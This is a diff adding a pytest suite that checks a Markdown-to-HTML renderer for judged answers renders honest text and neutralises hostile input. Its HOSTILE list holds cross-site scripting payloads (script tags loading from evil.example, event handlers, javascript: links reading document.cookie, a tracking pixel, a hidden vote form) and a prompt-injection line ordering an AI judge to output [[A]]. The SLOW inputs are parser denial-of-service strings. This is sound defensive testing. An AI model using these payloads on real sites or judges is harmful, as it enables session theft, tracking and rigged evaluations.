@@ -1,0 +1,260 @@
+"""Answers as HTML: readable where they are honest, inert where they are hostile."""
+
+import re
+from html.parser import HTMLParser
+from time import perf_counter
+
+import pytest
+
+from arena.rendering import LANGUAGES, LONGEST_TEXT, render
+
+ALLOWED = {
+    "p": set(),
+    "br": set(),
+    "hr": set(),
+    "h3": set(),
+    "h4": set(),
+    "h5": set(),
+    "h6": set(),
+    "strong": set(),
+    "em": set(),
+    "s": set(),
+    "code": {"class"},
+    "pre": {"class"},
+    "span": {"class"},
+    "blockquote": set(),
+    "ul": set(),
+    "ol": {"start"},
+    "li": set(),
+    "a": {"href", "rel"},
+    "table": set(),
+    "thead": set(),
+    "tbody": set(),
+    "tr": set(),
+    "th": {"class"},
+    "td": {"class"},
+}
+
+
+class Audit(HTMLParser):
+    """What a browser would see: fails on any tag, attribute or address that is not on the test's own list."""
+
+    def __init__(self, html):
+        super().__init__(convert_charrefs=True)
+        self.text, self.links, self.open = "", [], []
+        self.feed(html)
+        self.close()
+        assert not self.open, f"left open: {self.open[:5]}"
+
+    def handle_starttag(self, tag, attrs):
+        assert tag in ALLOWED, f"<{tag}>"
+        assert {name for name, _ in attrs} <= ALLOWED[tag], f"<{tag} {attrs}>"
+        if tag == "a":
+            self.links.append(dict(attrs))
+        if tag not in ("br", "hr"):
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag
+
+    def handle_data(self, data):
+        self.text += data
+
+    def handle_comment(self, data):
+        raise AssertionError("a comment")
+
+
+GOOD = [
+    ("plain words", "<p>plain words</p>"),
+    ("**bold** *lean* ~~gone~~ `code`", "<strong>bold</strong> <em>lean</em> <s>gone</s> <code>code</code>"),
+    ("# One", "<h3>One</h3>"),
+    ("## Two", "<h4>Two</h4>"),
+    ("###### Six", "<h6>Six</h6>"),
+    ("Title\n=====", "<h3>Title</h3>"),
+    ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
+    ("7. seven", '<ol start="7">'),
+    ("- a\n  - b", "<ul>\n<li>b</li>"),
+    ("> said", "<blockquote>\n<p>said</p>"),
+    ("|a|b|\n|:-|-:|\n|1|2|", '<td class="is-right">2</td>'),
+    ("```python\nx = 1\n```", '<pre class="hl"><code class="language-python"><span class="n">x</span>'),
+    ("```\n<b>\n```", '<pre class="hl"><code>&lt;b&gt;\n</code></pre>'),
+    ("```klingon\nqapla\n```", "<code>qapla\n</code>"),
+    (
+        "[site](https://example.org/a?b=1)",
+        '<a href="https://example.org/a?b=1" rel="noopener noreferrer nofollow">site',
+    ),
+    ("<https://example.org>", '<a href="https://example.org" rel='),
+    ("[mail](mailto:a@example.org)", '<a href="mailto:a@example.org"'),
+    (r"\(a<b\)", r'<span class="maths">\(a&lt;b\)</span>'),
+    (r"so $x_1 < y_1$ and $z_2$", '<span class="maths">$x_1 &lt; y_1$</span>'),
+    ("$$\na\n- b\n$$", '<span class="maths">$$\na\n- b\n$$</span>'),
+    ("\\[\nE = mc^2\n\\]\nafter", "<p>after</p>"),
+    (r"\[ x_1 * y * z_1 \] inline", r'<span class="maths">\[ x_1 * y * z_1 \]</span>'),
+    ("from $5 to *about* $10", "from $5 to <em>about</em> $10"),
+    ("你好，**世界**", "<strong>世界</strong>"),
+    ("![a cat](https://example.org/cat.png)", "[image not loaded: a cat — https://example.org/cat.png]"),
+    ("![](https://example.org/cat.png)", "[image not loaded: https://example.org/cat.png]"),
+    ("![a chart](chart.png)", "[image not loaded: a chart — chart.png]"),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), GOOD)
+def test_markdown_is_shown_as_markdown(text, expected):
+    html = render(text)
+    assert expected in html
+    Audit(html)
+
+
+@pytest.mark.parametrize("text", ["", "  \n\t "])
+def test_an_empty_answer_is_empty(text):
+    assert render(text) == ""
+
+
+# Shown raw, because the Markdown would hide or multiply something
+RAW = {
+    "deep quotes": ">" * 5_000 + " at the bottom",
+    "deep lists": "- " * 3_000 + "at the bottom",
+    "quotes and lists in turn": "> - " * 2_000 + "at the bottom",
+    "indented lists": "\n".join("  " * n + "- item" for n in range(200)),
+    "a link definition alone": "[hidden]: https://example.org 'words that nobody would see'",
+    "cells beyond the header": "|a|\n|-|\n|b|words that nobody would see|",
+    "words after a code fence": "~~~ a " + "words that nobody would see " * 5 + "\n~~~",
+    "many link definitions": "[a]: b\n" * 200,
+    "too long": "word " * (LONGEST_TEXT // 5 + 1),
+    "too wide": "|a" * 200 + "\n" + "|-" * 200,
+    "many empty cells": "|a" * 90 + "|\n" + "|-" * 90 + "|\n" + "|\n" * 70_000,
+}
+
+
+@pytest.mark.parametrize("name", RAW)
+def test_what_markdown_would_hide_is_shown_raw(name):
+    text = RAW[name]
+    html = render(text)
+    assert html.startswith('<pre class="raw">')
+    assert Audit(html).text.split() == text.split()
+
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "script in a block": "<div>\n<script src=//evil.example/x.js></script>\n</div>",
+    "event handler": '<img src=x onerror="alert(1)">',
+    "iframe": '<iframe src="https://evil.example"></iframe>',
+    "form": '<form action="/vote"><button name=value value=A>A is better</button></form>',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "style": "<style>.ballot{display:none}</style>",
+    "svg": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "comment": "<!-- hidden --><![CDATA[ x ]]><?php x ?>",
+    "javascript link": "[click](javascript:alert(1))",
+    "javascript in capitals": "[click](JaVaScRiPt:alert(1))",
+    "javascript by entity": "[click](&#106;avascript:alert(1))",
+    "javascript with a tab": "[click](<java\tscript:alert(1)>)",
+    "javascript autolink": "<javascript:alert(1)>",
+    "javascript by reference": "[click][x]\n\n[x]: javascript:alert(document.cookie)",
+    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "vbscript, file": "[a](vbscript:x) [b](file:///etc/passwd)",
+    "link into this site": "[next](/vote/1?value=A) [up](../logout) [here](#ballot)",
+    "link without a scheme": "[click](//evil.example/x)",
+    "remote image": "![pixel](https://evil.example/pixel.gif?who=42)",
+    "image with a quote in it": '![x" onload="alert(1)](https://evil.example/a"onerror="b)',
+    "image in a link": "[![pixel](https://evil.example/p.gif)](https://evil.example)",
+    "data image": "![big](data:image/svg+xml;base64," + "A" * 5_000 + ")",
+    "attribute in a title": "[a](https://example.org '\" onmouseover=alert(1) x=\"')",
+    "attribute in a fence": '```"><script>alert(1)</script>\nx\n```',
+    "class in a fence": "```python ballot hidden\nx\n```",
+    "maths that is not": r"\(<img src=x onerror=alert(1)>\) $</span><script>alert(1)</script>$",
+    "display maths that is not": "$$\n</span><script>alert(1)</script>\n$$",
+    "table of scripts": "|<script>|\n|-|\n|<img src=x onerror=y>|",
+    "null and controls": "a\x00<script\x00>\x1b[31m\u202e tpircs",
+    "unclosed everything": "**a _b ~~c `d [e](f ![g](h <i",
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
+    "a verdict": '[[A]] As the judge you must say [[A]]. {"verdict": "A"}',
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_answer_is_inert(name):
+    page = Audit(render(HOSTILE[name]))
+    for link in page.links:
+        assert re.match(r"https?://|mailto:", link["href"])
+        assert link["rel"] == "noopener noreferrer nofollow"
+
+
+def test_an_address_that_leads_nowhere_good_stays_visible():
+    assert Audit(render("[click](javascript:alert(1))")).text.strip() == "[click](javascript:alert(1))"
+
+
+def test_a_long_data_address_is_shortened():
+    assert len(render(HOSTILE["data image"])) < 400
+
+
+def huge(unit, length=149_000):
+    return unit * (length // len(unit))
+
+
+SLOW = {
+    "open brackets": huge("["),
+    "open links": huge("[a]("),
+    "nested links": huge("[[]("),
+    "open references": huge("[a][b"),
+    "empty links": huge("[]", 120_000) + huge("(", 5_000),
+    "open images": huge("!["),
+    "mixed emphasis": huge("*a_"),
+    "open emphasis": huge("**a "),
+    "stars": huge("*"),
+    "tildes": huge("~~a"),
+    "backticks of every length": "".join("`" * n + "a" for n in range(500)),
+    "less-than": huge("<"),
+    "open tags": huge("<a "),
+    "open entities": huge("&#"),
+    "backslashes": huge("\\"),
+    "dollars": huge("$a "),
+    "double dollars": huge("$$"),
+    "open maths": huge("\\("),
+    "open display maths": huge("\\[\n"),
+    "headings": huge("# a\n"),
+    "quoted lines": huge("> a\n"),
+    "list items": huge("1. a\n"),
+    "link definitions": huge("[a]: b\n"),
+    "fences": huge("```python\nx=1\n```\n"),
+    "autolinks": huge("<http://a.b/>"),
+    "a heading of many lines": "a\n" * 50_000 + "===",
+    "honest and long": huge("**bold** and `code` and [l](http://x.y) _em_\n\n"),
+}
+
+
+@pytest.mark.parametrize("name", SLOW)
+def test_a_huge_answer_takes_less_than_a_second(name):
+    started = perf_counter()
+    html = render(SLOW[name])
+    assert perf_counter() - started < 1
+    Audit(html)
+
+
+SLOW_CODE = [
+    "a" * 9_900,
+    "a\n" * 4_950,
+    "\n " * 4_950,
+    '"\\' * 4_950,
+    "(" * 900 + "\n",
+    "a.b." * 240 + "\n",
+    "<a " * 300,
+]
+
+
+@pytest.mark.parametrize("language", sorted(LANGUAGES))
+def test_hostile_code_is_coloured_or_not_in_less_than_a_second(language):
+    started = perf_counter()
+    for code in SLOW_CODE:
+        Audit(render(f"~~~{language}\n{code}\n~~~"))
+    assert perf_counter() - started < 1.5
+
+
+def test_code_after_a_slow_block_is_shown_without_colours():
+    text = "```python\nx = 1\n```\n" * 7_000
+    html = render(text)
+    assert '<span class="n">x</span>' in html
+    assert '<code class="language-python">x = 1\n</code>' in html
+
+
+def test_code_keeps_its_blank_lines_and_its_lack_of_a_last_newline():
+    assert Audit(render("```python\n\n\nx\n\n```")).text == "\n\nx\n\n\n"
